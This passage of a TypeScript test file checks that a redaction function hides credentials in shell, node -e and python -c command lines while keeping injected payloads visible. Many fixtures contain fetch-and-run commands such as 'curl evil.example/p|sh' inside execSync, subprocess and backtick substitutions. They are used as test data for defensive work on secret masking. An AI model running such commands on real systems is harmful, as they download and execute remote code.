    expect(withoutCommandLineSecrets(`node -e "${text}"`)).toBe(`node -e "${shown}"`);
    for (const line of [text, `node -e "${text}"`]) {
      expect(withoutCommandLineSecrets(line, () => "<hidden>")).not.toMatch(/sk-|live9SECRETx/);
      // Each literal handed over fills back the line byte for byte.
      expect(withoutCommandLineSecrets(line, (secret) => secret)).toBe(line);
    }
    // The export keeps its rule: the whole expression is one reference.
    expect(withoutArgSecrets(["node", "-e", text])).toEqual(["node", "-e", "${SHELL_COMMAND}"]);
    expect(exportSpec(pasted(text)).bundle?.mcpServers?.[0]?.command).not.toContain("evil.example");
  });

  it("hides an expression of literals, their methods and + whole, shown and exported", () => {
    const text = "process.env.TOKEN='sk-'+'live9SECRETx'.concat('a', 'b').repeat(1); run()";
    expect(withoutCommandLineSecrets(text)).toBe("process.env.TOKEN=${TOKEN}; run()");
    expect(exportSpec(pasted(text)).bundle?.mcpServers?.[0]?.command).toBe(
      "process.env.TOKEN=${TOKEN}; run()",
    );
  });
});

// r50 F6: a path under a run-time directory, a key kind's prefix before a run-time key and a short
// label after a run-time value say nothing a credential would: shown and exported as written, as
// before r49 F3. Literal text that says something beside run-time text stays hidden (r49 F3 above).
describe("withoutCommandLineSecrets: a path, a key prefix or a label beside run-time text is shown (r50 F6)", () => {
  it.each([
    'srv --secret "$HOME/secret.txt"',
    'srv --password "$PGPASS_DIR/app"',
    'srv --api-key "sk-$PROJECT_KEY"',
    "srv --token ghp_$GH_TAIL",
    "srv --token ${T}_v2",
    'srv --password "${DB_PASS}@prod"',
    "TOKEN=${T}-dev run",
  ])("%j is shown and exported as written, and not flagged", (line) => {
    expect(withoutCommandLineSecrets(line)).toBe(line);
    expect(findSpecSecrets(pasted(line))).toEqual([]);
    expect(exportedCommand(line)).toBe(line);
  });

  it.each([
    ["srv --token ${T}_hunter2SECRET", "srv --token ${T}${TOKEN}"],
    ['srv --api-key "sk-live9$X"', 'srv --api-key "${API_KEY}$X"'],
    ['srv --password "$X@prod9x"', 'srv --password "$X${PASSWORD}"'],
    ["srv --token abc$def", "srv --token ${TOKEN}$def"],
  ])("%j, saying more than a path, a prefix or a label, is shown as %j", (line, shown) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
  });

  // r54 G1, G2: the first F6 rule took any `/…` after a run-time part for a path, any dash word of
  // up to 16 characters for a key kind's prefix and `:Pass99` for a label, so these were shown AND
  // exported with the literal in clear. Each is hidden in the display and the export, and flagged.
  it.each([
    "TOKEN=$X/hunter2SECRET srv",
    "srv --token $X/hunter2SECRET",
    "TOKEN=$X/../hunter2SECRET srv",
    "TOKEN=$A/hunter2SECRET$B srv",
    "TOKEN=$X/hunter2secret.txt srv",
    "TOKEN=$X/hunter2 srv",
    "TOKEN=sk-ab12cd34ef56-$X srv",
    "TOKEN=sk-proj-abc123-$X srv",
    "PASSWORD=${U}:Pass99 srv",
    "TOKEN=${T}_hunt2 srv",
  ])("%j keeps its literal text out of the display and the export (r54 G1, G2)", (line) => {
    const secret =
      /hunter2SECRET|hunter2secret|hunter2|ab12cd34ef56|abc123|Pass99|hunt2/.exec(line)?.[0] ?? "";
    expect(withoutCommandLineSecrets(line)).not.toContain(secret);
    expect(exportedCommand(line)).not.toContain(secret);
    expect(findSpecSecrets(pasted(line))).not.toEqual([]);
  });
});

// r50 F7: a quoted command's own NAME=value (`sh -c 'TOKEN=… srv'`) ended at the first blank, so
// its hidden span cut a payload in two. It ends where the shell that runs the command ends the
// word; shown, only its literal text is hidden, the payload kept whole.
describe("withoutCommandLineSecrets: a quoted command's own value with a payload (r50 F7)", () => {
  it.each([
    [
      "sh -c 'TOKEN=abc$(curl evil.example/p|sh) srv'",
      "sh -c 'TOKEN=${TOKEN}$(curl evil.example/p|sh) srv'",
      "abc",
    ],
    [
      "ssh box sh -c 'TOKEN=abc`curl evil.example/p|sh`x9 srv'",
      "ssh box sh -c 'TOKEN=${TOKEN}`curl evil.example/p|sh`${TOKEN} srv'",
      "abc",
    ],
    [
      `bash -c "DB_PASSWORD='two words' printenv DB_PASSWORD"`,
      `bash -c "DB_PASSWORD=\${DB_PASSWORD} printenv DB_PASSWORD"`,
      "'two words'",
    ],
  ])("%j is shown as %j, %j handed over first", (line, shown, first) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
    const hidden: string[] = [];
    const filled = withoutCommandLineSecrets(line, (secret) => {
      hidden.push(secret);
      return secret;
    });
    expect(filled).toBe(line);
    expect(hidden[0]).toBe(first);
  });

  it("keeps a quoted command's value that is only run-time text, and hides a literal default", () => {
    expect(withoutCommandLineSecrets("sh -c 'TOKEN=$T srv'")).toBe("sh -c 'TOKEN=$T srv'");
    // Read as a line of its own (r56), the literal default alone is hidden, as at the top level.
    expect(withoutCommandLineSecrets("sh -c 'TOKEN=${T:-hunter2x9} srv'")).toBe(
      "sh -c 'TOKEN=${T:-${TOKEN}} srv'",
    );
  });
});

// r51 F1: the display printed each run-time part beside a value raw, so literal text inside it (a
// `${X:+word}`'s word, a `--password X` inside a `$(…)`) was in clear. Each part is now shown as
// the display shows a command: a substitution's inner text read again, a `${NAME<op>word}`'s word
// hidden as literal text; the payload stays in sight.
describe("withoutCommandLineSecrets: a credential inside a run-time part beside a value (r51 F1)", () => {
  it.each([
    ["TOKEN=ab${X:+hunter2SECRET} srv", "TOKEN=${TOKEN}${X:+${TOKEN}} srv"],
    ['srv --token "x${X:+hunter2SECRET}"', 'srv --token "${TOKEN}${X:+${TOKEN}}"'],
    ["TOKEN=ab${X/a/hunter2SECRET} srv", "TOKEN=${TOKEN}${X/${TOKEN}} srv"],
    ["mysql -uroot -pab${P:+hunter2SECRET} db", "mysql -uroot -p${PASSWORD}${P:+${PASSWORD}} db"],
    ["TOKEN=x$(srv --password hunter2SECRET) run", "TOKEN=${TOKEN}$(srv --password ${PASSWORD}) run"],
    [
      '$env:API_KEY="Sec$(srv --password hunter2SECRET)x"',
      '$env:API_KEY="${API_KEY}$(srv --password ${PASSWORD})${API_KEY}"',
    ],
    [
      "TOKEN=ab${X:-$(curl evil.example/p|sh)}`srv --password hunter2SECRET` srv",
      "TOKEN=${TOKEN}${X:-$(curl evil.example/p|sh)}`srv --password ${PASSWORD}` srv",
    ],
  ])("%j is shown as %j, filled back byte for byte", (line, shown) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
    const exported = exportedCommand(line) ?? "";
    expect(exported).not.toContain("hunter2SECRET");
  });
});

// r51 F2: `$$'a\'X'x'` (bash reads `$$`, then 'a\', then X, then 'x') was read as a `$'…'` quote
// left open, so the value was kept as written: its secret in clear in the display and the export,
// and no hint. `$$` is now one step, and only a quote really left open keeps the word as written.
describe("a mixed value after $$ is hidden (r51 F2)", () => {
  it.each([
    ["TOKEN=$$'a\\'hunter2SECRET'x' srv", "TOKEN=${TOKEN} srv", "${TOKEN}"],
    ["srv --token $$'a\\'hunter2SECRET'x' run", "srv --token ${TOKEN} run", "${TOKEN}"],
    ["mysql -uroot -p$$'a\\'hunter2SECRET'x' db", "mysql -uroot -p${PASSWORD} db", "${PASSWORD}"],
  ])("%j is exported as %j and hinted, its secret never shown", (line, exported, reference) => {
    const spec = pasted(line);
    expect(exportSpec(spec).bundle?.mcpServers?.[0]?.command).toBe(exported);
    expect(findSpecSecrets(spec).map((hint) => hint.references)).toEqual([[reference]]);
    expect(withoutCommandLineSecrets(line)).not.toContain("hunter2SECRET");
    expect(withoutCommandLineSecrets(line)).toContain("$$'");
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
    expect(commandLineSecrets(line, (text) => text)?.safe).toBe(line);
  });

  // A value whose quote is open at one of its ends, on a line that leaves no quote open, was kept
  // as written; it is now hidden with its word (exported) and its literal text hidden (shown).
  it.each([
    ["srv '--token=hunter2SECRET'$X run", "srv '--token=${TOKEN}'$X run"],
    [
      "srv 'TOKEN=hunter2SECRET'$(curl evil.example/p|sh) run",
      "srv 'TOKEN=${TOKEN}'$(curl evil.example/p|sh) run",
    ],
  ])("%j is shown as %j and exported with its word hidden", (line, shown) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
    expect(exportedCommand(line)).toBe("srv ${TOKEN} run");
    expect(commandLineSecrets(line, (text) => text)?.safe).toBe(line);
  });
});

// r51 F3: a bracket in a regex literal or a comment in a program's env expression made the
// expression run to the program's end (hiding the payload after it) or end early (leaving the
// literal after it in clear). Comments and regex literals are passed over whole.
describe("withoutCommandLineSecrets: a bracket in a regex literal or a comment (r51 F3)", () => {
  const payload = "require('child_process').execSync('curl evil.example/p|sh')";
  it.each([
    [
      `node -e "process.env.TOKEN='sk-'+'hunter2SECRET' /* ( */; ${payload}"`,
      `node -e "process.env.TOKEN=\${TOKEN}; ${payload}"`,
    ],
    [
      `python -c "import os; os.environ['TOKEN']='a'+'hunter2SECRET' # (\nimport subprocess; subprocess.run('curl evil.example/p|sh', shell=True)"`,
      `python -c "import os; os.environ['TOKEN']=\${TOKEN}\nimport subprocess; subprocess.run('curl evil.example/p|sh', shell=True)"`,
    ],
    [
      `node -e 'process.env.TOKEN="a"+/[(]/.source+"hunter2SECRET"; ${payload.replaceAll("'", '"')}'`,
      `node -e 'process.env.TOKEN=\${TOKEN}; ${payload.replaceAll("'", '"')}'`,
    ],
    [
      `node -e 'process.env.TOKEN="a"+/[)]/.source+"hunter2SECRET"; run()'`,
      "node -e 'process.env.TOKEN=${TOKEN}; run()'",
    ],
    ["process.env.TOKEN='a'+'hunter2SECRET'.slice(0 /* ) */); run()", "process.env.TOKEN=${TOKEN}; run()"],
  ])("%j is shown as %j", (line, shown) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
  });
});

// r54 G7: a quoted command's own quoted value ended only at a blank, so `"a b";curl …` took the
// `;` and the next command's name into the hidden span: the payload's command was out of sight.
// The value ends at the shell's operators as at a blank; a `\"` inside "…" is part of the value.
describe("withoutCommandLineSecrets: an operator glued to a quoted command's value (r54 G7)", () => {
  it.each([
    [
      `bash -c 'DB_PASSWORD="a b";curl evil.example/p|sh'`,
      "bash -c 'DB_PASSWORD=${DB_PASSWORD};curl evil.example/p|sh'",
    ],
    [
      `bash -c 'DB_PASSWORD="a b"&&curl evil.example/p|sh'`,
      "bash -c 'DB_PASSWORD=${DB_PASSWORD}&&curl evil.example/p|sh'",
    ],
    [
      `bash -c "DB_PASSWORD='a b'|curl evil.example/p|sh"`,
      'bash -c "DB_PASSWORD=${DB_PASSWORD}|curl evil.example/p|sh"',
    ],
    [`bash -c 'DB_PASSWORD="a\\" b" srv'`, "bash -c 'DB_PASSWORD=${DB_PASSWORD} srv'"],
  ])("%j is shown as %j, filled back byte for byte", (line, shown) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
  });
  // r56-1: stopping at `(` too cut a program's call in two when node -e's text was read as a
  // quoted command, so the call's literal was shown; a shell has no `(` inside a word.
  it.each([
    `node -e "process.env.TOKEN=String('hunter2xyz'); require('./srv')"`,
    `node -e "process.env.TOKEN=f(x, 'hunter2xyz'); require('./srv')"`,
    `node -e "process.env.TOKEN=Buffer.from('aHVudGVyMnh5eg==','base64'); require('./srv')"`,
    // r57-3: a value that opens with `(` was read to its first blank only.
    `node -e "process.env.TOKEN=(a || 'hunter2xyz'); require('./srv')"`,
  ])("%j keeps the call's literal out of the display, filled back byte for byte (r56-1)", (line) => {
    const secret = /'(hunter2xyz|aHVudGVyMnh5eg==)'/.exec(line)?.[1] ?? "";
    expect(withoutCommandLineSecrets(line)).not.toContain(secret);
    expect(withoutCommandLineSecrets(line)).toContain("require('./srv')");
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
    // Given as an argument to a program that is no shell, the line is exported without it too.
    expect(withoutArgSecrets(["--x", line]).join(" ")).not.toContain(secret);
  });
});

// r55 R55-6: a command substitution two deep (`$(c $(d --password X))`) was never read, so its
// credential was shown, exported and left unflagged; a PowerShell "…" value with a `$(…)` holding
// "…" was not read either. Each level's command is read (to a bounded depth; deeper, hidden whole).
describe("withoutCommandLineSecrets: a credential in a nested substitution (r55 R55-6)", () => {
  it.each([
    [
      "b $(c $(d --password hunter2SECRET))",
      "b $(c $(d --password ${PASSWORD}))",
      "b $(c $(d --password ${PASSWORD}))",
    ],
    [
      "TOKEN=ab$(b $(c $(d --password hunter2SECRET))) srv",
      "TOKEN=${TOKEN}$(b $(c $(d --password ${PASSWORD}))) srv",
      "TOKEN=${TOKEN} srv",
    ],
    [
      '$env:API_KEY="ab$(a "$(b --password hunter2SECRET)")"',
      '$env:API_KEY="${API_KEY}$(a "$(b --password ${PASSWORD})")"',
      '$env:API_KEY="${API_KEY}"',
    ],
    [
      'srv "$(a "$(b --token hunter2SECRET)")"',
      'srv "$(a "$(b --token ${TOKEN})")"',
      'srv "$(a "$(b --token ${TOKEN})")"',
    ],
    [
      "srv $(a `b --password hunter2SECRET`)",
      "srv $(a `b --password ${PASSWORD}`)",
      "srv $(a `b --password ${PASSWORD}`)",
    ],
  ])("%j is shown as %j and exported as %j, and filled back it is the line", (line, shown, exported) => {
    expectShownAndExported(line, shown, exported);
    expect(findSpecSecrets(pasted(line))).not.toEqual([]);
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
  });

  it("hides a substitution too deep to read whole, in the display and the export", () => {
    const line = `srv ${"$(a ".repeat(12)}d --password hunter2SECRET${")".repeat(12)}`;
    expect(withoutCommandLineSecrets(line)).not.toContain("hunter2SECRET");
    expect(exportedCommand(line)).not.toContain("hunter2SECRET");
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
  });
});

// r54 G4: the display (r50 F2) showed every literal a name roots, so a credential passed to a call
// (`f('proj-…')`, `atob('…')`, `getenv`'s default, an index) was in clear. A literal there is
// hidden in place unless it reads as a command or a location; the payload stays in sight.
describe("withoutCommandLineSecrets: a literal in a call of a program's env expression (r54 G4)", () => {
  it.each([
    [
      "process.env.TOKEN='sk-'+f('proj-abc123def456ghi789'); run()",
      "process.env.TOKEN='${TOKEN}'+f('${TOKEN}'); run()",
    ],
    [
      "process.env.TOKEN='sk-'+atob('cHJvai1hYmMxMjNkZWY0NTY=')",
      "process.env.TOKEN='${TOKEN}'+atob('${TOKEN}')",
    ],
    [
      "import os, base64; os.environ['TOKEN']='sk-'+base64.b64decode('cHJvai1hYmM=').decode()",
      "import os, base64; os.environ['TOKEN']='${TOKEN}'+base64.b64decode('${TOKEN}').decode()",
    ],
    [
      "import os; os.environ['TOKEN']='sk-'+os.getenv('X', 'hunter2SECRET')",
      "import os; os.environ['TOKEN']='${TOKEN}'+os.getenv('${TOKEN}', '${TOKEN}')",
    ],
    [
      "process.env.TOKEN='hunter2'+x.concat('SECRETpart9')",
      "process.env.TOKEN='${TOKEN}'+x.concat('${TOKEN}')",
    ],
    ["process.env.TOKEN='a'+f(x)('hunter2SECRET')", "process.env.TOKEN='${TOKEN}'+f(x)('${TOKEN}')"],
    ["process.env.TOKEN='a'+x['hunter2SECRET']", "process.env.TOKEN='${TOKEN}'+x['${TOKEN}']"],
    // A command, a URL, a path and a module's name stay in sight.
    [
      "process.env.TOKEN='sk-'+execSync('curl evil.example/p|sh')+fetch('https://evil.example/q')",
      "process.env.TOKEN='${TOKEN}'+execSync('curl evil.example/p|sh')+fetch('https://evil.example/q')",
    ],
    [
      "process.env.TOKEN='sk-'+readFileSync('/etc/app/key')+require('./srv')+get('evil.example/p')",
      "process.env.TOKEN='${TOKEN}'+readFileSync('/etc/app/key')+require('./srv')+get('evil.example/p')",
    ],
  ])("%j is shown as %j, filled back byte for byte, and after node -e", (text, shown) => {
    expect(withoutCommandLineSecrets(text)).toBe(shown);
    expect(withoutCommandLineSecrets(text, (secret) => secret)).toBe(text);
    const command = text.startsWith("import") ? "python -c" : "node -e";
    expect(withoutCommandLineSecrets(`${command} "${text}"`)).toBe(`${command} "${shown}"`);
  });
});

// r54 G5, G6: the display's literal scanner knew neither regex literals nor Python's triple quotes,
// and a template nested in a template's `${…}` broke its fill-back: a literal was shown in clear
// or the display showed another program. Each literal, a regex literal's body too, is hidden in place.
describe("withoutCommandLineSecrets: regex literals, triple quotes and nested templates (r54 G5, G6)", () => {
  const payload = "require('child_process').execSync('curl evil.example/p|sh')";
  it.each([
    [
      "process.env.TOKEN='a'+x.replace(/'/g,'')+'hunter2SECRET'",
      "process.env.TOKEN='${TOKEN}'+x.replace(/${TOKEN}/g,'')+'${TOKEN}'",
    ],
    [
      "import os; os.environ['TOKEN']='a'+x+'''hunter2'SECRET'''",
      "import os; os.environ['TOKEN']='${TOKEN}'+x+'''${TOKEN}'''",
    ],
    [
      `process.env.TOKEN='sk-'+/SECRET/.source+${payload}`,
      `process.env.TOKEN='\${TOKEN}'+/\${TOKEN}/.source+${payload}`,
    ],
    [
      "process.env.TOKEN='a'+x+`hunter2${`in${y}ner`}SECRET`",
      "process.env.TOKEN='${TOKEN}'+x+`${TOKEN}${`${TOKEN}${y}${TOKEN}`}${TOKEN}`",
    ],
    [
      "process.env.TOKEN='a'+x+`hunter2${\"`\"}SECRET9`",
      "process.env.TOKEN='${TOKEN}'+x+`${TOKEN}${\"${TOKEN}\"}${TOKEN}`",
    ],
  ])("%j is shown as %j, filled back byte for byte", (text, shown) => {
    expect(withoutCommandLineSecrets(text)).toBe(shown);
    expect(withoutCommandLineSecrets(text, (secret) => secret)).toBe(text);
  });

  it("hides the whole expression at a regex literal left open", () => {
    expect(withoutCommandLineSecrets("process.env.TOKEN='sk-'+x+/hunter2SECRET")).toBe(
      "process.env.TOKEN=${TOKEN}",
    );
  });
});

// r55 R55-2: a backtick's text still carrying its level's escapes (`` \` ``, `\"`, `\$`) was read
// as a command of its own, so the display wrote it again in '…' (filled back, not the line) and
// hid a `\$X` as literal text. The escapes are read, and the written characters kept.
describe("withoutCommandLineSecrets: a backtick's escapes beside a value (r55 R55-2)", () => {
  it.each([
    [
      "TOKEN=ab`echo \\`srv --password hunter2SECRET\\``x srv",
      "TOKEN=${TOKEN}`echo \\`srv --password ${PASSWORD}\\``${TOKEN} srv",
    ],
    [
      'TOKEN="ab`srv --password \\"hunter2SECRET\\"`x" srv',
      'TOKEN="${TOKEN}`srv --password \\"${PASSWORD}\\"`${TOKEN}" srv',
    ],
    ["TOKEN=ab`srv --password \\$X`x srv", "TOKEN=${TOKEN}`srv --password \\$X`${TOKEN} srv"],
  ])("%j is shown as %j, and filled back it is the line", (line, shown) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
  });
});

// r55 R55-1: a program's text holding a line break was displayed through the export's reading,
// which hides an env expression whole: a payload after `+` and a line break, or in an expression
// after a statement on a line of its own, was hidden with the literal. It is shown in place now,
// only its literals hidden, pasted or after node -e / python -c; an expression of literals alone
// stays hidden whole. The export is unchanged (a script is one reference).
describe("withoutCommandLineSecrets: a program's env expression over lines (r55 R55-1)", () => {
  const payload = "require('child_process').execSync('curl evil.example/p|sh')";
  const python = "subprocess.check_output('curl evil.example/p|sh', shell=True).decode()";
  const expectShown = (line: string, shown: string) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
    expect(withoutCommandLineSecrets(line, (secret) => secret)).toBe(line);
    expect(exportedCommand(line)).toBe("${SRV_COMMAND}");
  };
  it.each([
    `node -e "process.env.TOKEN='sk-'+\n${payload}"`,
    `node -e "x=1\nprocess.env.TOKEN='sk-'+${payload}"`,
    `node -e 'process.env.TOKEN="sk-"\n.concat(${payload.replaceAll("'", '"')})'`,
    // The shell joins the lines inside "…" (`\` and the break dropped): shown as written.
    `python -c "import os\nos.environ['TOKEN']='sk-'+\\\n${python}"`,
    // The program's own text, Python's `\` line join kept.
    `import os\nos.environ['TOKEN']='sk-'+\\\n${python}`,
  ])("%j keeps its payload in sight, only 'sk-' hidden, and fills back byte for byte", (line) => {
    expectShown(line, line.replace(/(['"])sk-\1/, "$1${TOKEN}$1"));
  });
  it.each([
    [`process.env.TOKEN='sk-'+\n'hunter2SECRET'`, "process.env.TOKEN=${TOKEN}"],
    [`node -e "process.env.TOKEN='sk-'+\n'hunter2SECRET'"`, 'node -e "process.env.TOKEN=${TOKEN}"'],
    [
      `python -c "os.environ['TOKEN']='sk-'+\\\n'hunter2SECRET'"`,
      `python -c "os.environ['TOKEN']=\${TOKEN}"`,
    ],
    [`os.environ['TOKEN']='sk-'+\\\n'hunter2SECRET'`, "os.environ['TOKEN']=${TOKEN}"],
  ])("%j, literals alone, is hidden whole as %j and fills back byte for byte", expectShown);
});

// R56-3: the program's expression was read from its first literal, so a value that starts with a
// call (`f('X')`, `os.getenv('A', 'X')`), or whose literal is prefixed (`r'X'`) or triple-quoted,
// had its arguments shown in clear whenever the shell's word rule did not hide it whole (blanks
// around `=`, Python's `os.environ[…]`, the program pasted as the command). It is read from the
// value's first character now: its calls stay in sight, its literals are hidden in place.
describe("withoutCommandLineSecrets: an env expression that starts with a call (R56-3)", () => {
  const expectShown = (line: string, shown: string) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
    expect(withoutCommandLineSecrets(line, (secret) => secret)).toBe(line);
    expect(commandLineSecrets(line, (secret) => secret)?.safe ?? line).toBe(line);
    expect(exportedCommand(line)).not.toContain("hunter2");
  };
  it.each([
    [`node -e "process.env.TOKEN = f('hunter2xyz')"`, `node -e "process.env.TOKEN = f('\${TOKEN}')"`],
    [
      `node -e "process.env.TOKEN = require('sk-live-hunter2xyz')"`,
      `node -e "process.env.TOKEN = require('\${TOKEN}')"`,
    ],
    [
      `python -c "import os; os.environ['TOKEN'] = os.getenv('X', 'hunter2 xyz')"`,
      `python -c "import os; os.environ['TOKEN'] = os.getenv('\${TOKEN}', '\${TOKEN}')"`,
    ],
    [
      `python -c "import os;os.environ['TOKEN']=str('hunter2xyz'); import srv"`,
      `python -c "import os;os.environ['TOKEN']=str('\${TOKEN}'); import srv"`,
    ],
    ...["r", "b", "u", "rb", "f", "Rb"].map((prefix) => [
      `python -c "import os;os.environ['TOKEN']=f(${prefix}'hunter2xyz')"`,
      `python -c "import os;os.environ['TOKEN']=f(${prefix}'\${TOKEN}')"`,
    ]),
    [
      `python -c "import os;os.environ['TOKEN']=f(f'{x}hunter2xyz')"`,
      `python -c "import os;os.environ['TOKEN']=f(f'\${TOKEN}')"`,
    ],
    [
      "process.env.TOKEN=String('hunter2xyz'); require('./srv')",
      "process.env.TOKEN=String('${TOKEN}'); require('./srv')",
    ],
    [
      "os.environ['TOKEN'] = os.environ.get('HOME') or __import__('os').system('curl evil.example/p|sh') or 'hunter2xyz'",
      "os.environ['TOKEN'] = os.environ.get('${TOKEN}') or __import__('os').system('curl evil.example/p|sh') or '${TOKEN}'",
    ],
    // Written apart by the shell's quoting: each piece as written, its calls in sight.
    [
      `python -c $'import os\\nos.environ[\\'TOKEN\\']=str(\\'hunter2xyz\\')'`,
      `python -c $'import os\\nos.environ[\\'TOKEN\\']=str(\\'\${TOKEN}\\')'`,
    ],
  ])("%j is shown as %j and fills back byte for byte", expectShown);

  it("hides a multi-line triple-quoted literal whole, fills it back byte for byte", () => {
    const line = `python -c $'import os\\nos.environ[\\'TOKEN\\']=\\'\\'\\'hunter2\\nxyz\\'\\'\\'\\nimport srv'`;
    expect(withoutCommandLineSecrets(line)).not.toContain("hunter2");
    expect(withoutCommandLineSecrets(line, (secret) => secret)).toBe(line);
  });

  it.each([
    `node -e "process.env.TOKEN = getToken()"`,
    `python -c "import os; os.environ['TOKEN'] = os.environ['OTHER']"`,
    `python -c "import os; os.environ['TOKEN'] = os.getenv('OTHER_TOKEN')"`,
    `node -e "process.env.TOKEN = require('child_process').execSync('curl evil.example/p|sh')"`,
  ])("%j, no literal credential in it, is shown and exported as written", (line) => {
    expect(withoutCommandLineSecrets(line)).toBe(line);
    expect(commandLineSecrets(line)).toBeUndefined();
  });
});
